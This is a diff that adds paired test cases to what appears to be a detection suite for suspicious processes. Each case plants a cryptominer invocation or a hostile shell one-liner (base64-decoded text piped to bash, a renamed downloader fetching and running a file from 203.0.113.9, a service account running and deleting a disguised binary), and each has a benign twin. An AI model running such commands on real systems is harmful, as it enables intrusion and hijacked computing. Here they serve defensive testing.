@@ -103,6 +103,110 @@ def _(room: Room) -> Planted:
     return {"pid": room.run("/usr/bin/backup", "-a", "sha256", "-o", "backup.example.org:22", "-u", "backup")}
 
 
+@case(1, miner_process="pid")
+def kaspa_address(room: Room) -> Planted:
+    """the option that Kaspa's miners have."""
+    return {"pid": room.run("/opt/run/worker", "--mining-address", "kaspa:x", "--kaspad-address", "203.0.113.9")}
+
+
+@kaspa_address.twin
+def _(room: Room) -> Planted:
+    """a node of that coin."""
+    return {"pid": room.run("/usr/bin/kaspad", "--utxoindex", "--rpclisten=127.0.0.1:16110")}
+
+
+@case(1, miner_process="pid")
+def proxy_of_miners(room: Room) -> Planted:
+    """a proxy for miners under another name."""
+    return {"pid": room.run("/opt/run/worker", "--mode=nicehash", "--bind=0.0.0.0:3333", "--custom-diff=100000")}
+
+
+@proxy_of_miners.twin
+def _(room: Room) -> Planted:
+    """a web server in production mode."""
+    return {"pid": room.run("/opt/shop/server", "--mode=production", "--bind=0.0.0.0:8080")}
+
+
+@case(1, miner_process_likely="pid")
+def pool_in_a_hidden_network(room: Room) -> Planted:
+    """a login at an onion service."""
+    return {"pid": room.run("/opt/run/worker", "-o", "expyuzz4wqqyqhjn.onion:3333", "-u", "x", "-p", "x", "-k")}
+
+
+@pool_in_a_hidden_network.twin
+def _(room: Room) -> Planted:
+    """a client with an onion service as its server, and no user there."""
+    return {"pid": room.run("/opt/chat/client", "-s", "expyuzz4wqqyqhjn.onion:6667")}
+
+
+@case(1, miner_process="pid")
+def pool_that_is_missing(room: Room) -> Planted:
+    """a mining scheme without a host."""
+    return {"pid": room.run("/opt/run/worker", "-o", "stratum+tcp", "-u", "x")}
+
+
+@pool_that_is_missing.twin
+def _(room: Room) -> Planted:
+    """a program told a scheme of another kind."""
+    return {"pid": room.run("/opt/db/dump", "-o", "git+ssh", "-u", "x")}
+
+
+@case(1, miner_process="pid")
+def young_coins_wallet(room: Room) -> Planted:
+    """an address of Kaspa behind a user option."""
+    wallet = "kaspa:qpauqsvk7yf9unexwmxsnmg547mhyga37csh0kj53q6xxgl24ydxjsgzthw5j"
+    return {"pid": room.run("/opt/run/worker", "-a", "kheavyhash", "-u", f"{wallet}.rig")}
+
+
+@young_coins_wallet.twin
+def _(room: Room) -> Planted:
+    """a wallet that is told an address of the same coin to pay to."""
+    wallet = "kaspa:qpauqsvk7yf9unexwmxsnmg547mhyga37csh0kj53q6xxgl24ydxjsgzthw5j"
+    return {"pid": room.run("/usr/bin/kaspad", "--utxoindex", f"--donate={wallet}")}
+
+
+@case(1, odd_command_running="pid")
+def decoded_by_anybody(room: Room) -> Planted:
+    """an ordinary account's shell running decoded text."""
+    script = "read hold; echo ZWNobyBoZWxsbw== | base64 -d | bash"
+    return {"pid": room.start("sh", "-c", script, user=1000, group=1000, extra_groups=[])}
+
+
+@decoded_by_anybody.twin
+def _(room: Room) -> Planted:
+    """an ordinary account's shell decoding a key into a file."""
+    script = "read hold; echo ZWNobyBoZWxsbw== | base64 -d > ~/key.pem"
+    return {"pid": room.start("sh", "-c", script, user=1000, group=1000, extra_groups=[])}
+
+
+@case(1, odd_command_running="pid")
+def renamed_downloader(room: Room) -> Planted:
+    """a downloader under another name whose file is then run."""
+    script = "read hold; good http://203.0.113.9/x -O f; chmod +x f; ./f"
+    return {"pid": room.start("sh", "-c", script)}
+
+
+@renamed_downloader.twin
+def _(room: Room) -> Planted:
+    """a developer's installer, fetched with the downloader that everybody has."""
+    script = "read hold; curl -fsSL https://get.example.org/ -o install.sh; less install.sh"
+    return {"pid": room.start("sh", "-c", script)}
+
+
+@case(1, service_account_shell="pid")
+def copied_run_and_deleted(room: Room) -> Planted:
+    """the database's account starting a copy under a shell's name and deleting it."""
+    script = "read hold; cp x ./-bash && ./-bash; rm ./-bash"
+    return {"pid": room.start("sh", "-c", script, user=101, group=101, extra_groups=[])}
+
+
+@copied_run_and_deleted.twin
+def _(room: Room) -> Planted:
+    """the database's account copying its log away before it deletes it."""
+    script = "read hold; cp server.log /srv/backup/server.log && rm server.log"
+    return {"pid": room.start("sh", "-c", script, user=101, group=101, extra_groups=[])}
+
+
 @case(1, service_account_shell="pid")
 def service_account_download(room: Room) -> Planted:
     """www-data piping a download into a shell."""
